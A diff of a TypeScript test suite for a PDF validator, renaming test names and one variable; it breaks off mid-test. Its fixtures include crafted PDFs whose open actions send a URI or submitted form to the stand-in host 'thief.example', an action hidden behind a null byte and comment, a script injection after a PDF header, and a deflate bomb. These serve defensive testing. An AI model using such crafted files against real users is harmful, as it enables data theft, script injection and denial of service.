@@ -25,7 +25,7 @@ function objects(...bodies: string[]): { head: string; data: Buffer } {
 const page = (content: string) =>
   pdf({ stream: { head: "/Filter /FlateDecode", data: deflateSync(Buffer.from(content)) } });
 
-describe("a PDF of pages is accepted", () => {
+describe("accepted PDFs", () => {
   test.each([
     ["without streams", pdf()],
     ["that opens at a destination", pdf({ catalog: "/OpenAction [3 0 R /Fit]" })],
@@ -40,12 +40,12 @@ describe("a PDF of pages is accepted", () => {
       "with a picture that is no zlib stream",
       pdf({ stream: { head: "/Filter /DCTDecode", data: Buffer.alloc(5000, 0xff) } }),
     ],
-  ])("%s", async (_, bytes) => {
+  ])("a PDF is accepted %s", async (_, bytes) => {
     expect(await codeOf(bytes)).toBe("accepted");
   });
 });
 
-describe("a PDF that acts when it is opened is refused", () => {
+describe("rejected PDFs", () => {
   const uri = "<< /S /URI /URI (https://thief.example) >>";
   test.each([
     ["by an address", pdf({ catalog: `/OpenAction ${uri}` })],
@@ -61,31 +61,31 @@ describe("a PDF that acts when it is opened is refused", () => {
     ["by what a page does, behind a zero and a comment", pdf({ catalog: `/AA\0%\n<< /O ${uri} >>` })],
     ["by a form that is sent", pdf({ catalog: "/OpenAction << /S /SubmitForm /F (https://thief.example) >>" })],
     ["by a file elsewhere", pdf({ catalog: "/OpenAction << /S /GoToR /F (a.pdf) /D [0] >>" })],
-  ])("%s", async (_, bytes) => {
+  ])("a PDF with an action on opening is rejected: %s", async (_, bytes) => {
     expect(await codeOf(bytes)).toBe("active_pdf");
   });
 });
 
-test("refuses a page of HTML behind the head of a PDF", async () => {
+test("an HTML page behind a PDF header is rejected", async () => {
   expect(await codeOf(Buffer.from("%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF"))).toBe("pdf_unreadable");
   const behind = pdf({ catalog: "" }).toString("latin1").replace("trailer", "<script>alert(1)</script>\ntrailer");
   expect(await codeOf(Buffer.from(behind, "latin1"))).toBe("active_pdf");
 });
 
 describe("the cost of a PDF", () => {
-  test("refuses streams that overlap", async () => {
+  test("overlapping streams are rejected", async () => {
     expect(await codeOf(overlappingPdf(2))).toBe("pdf_too_complex");
     expect(await codeOf(overlappingPdf(300))).toBe("pdf_too_complex");
   });
 
-  test("counts what was inflated also where inflating failed, over all files of a request", async () => {
-    const one = overlappingPdf(1).toString("latin1").replace("<<>>stream", "<</Type /ObjStm>>stream");
+  test("inflated bytes count also where inflating failed, over all files of a request", async () => {
+    const singleStreamPdf = overlappingPdf(1).toString("latin1").replace("<<>>stream", "<</Type /ObjStm>>stream");
     const budget = newBudget();
-    expect(await codeOf(Buffer.from(one, "latin1"), budget)).toBe("pdf_too_complex");
+    expect(await codeOf(Buffer.from(singleStreamPdf, "latin1"), budget)).toBe("pdf_too_complex");
     expect(await codeOf(pdf({ stream: objects("<< >>") }), budget)).toBe("pdf_too_complex");
   });
 
-  test("inflates no more than the budget of a stream of gigabytes", async () => {
+  test("inflating stops at the budget for a stream of gigabytes", async () => {
     const budget = newBudget();
     expect(
       await codeOf(pdf({ stream: { head: "/Type /ObjStm /Filter /FlateDecode", data: deflateBomb() } }), budget),
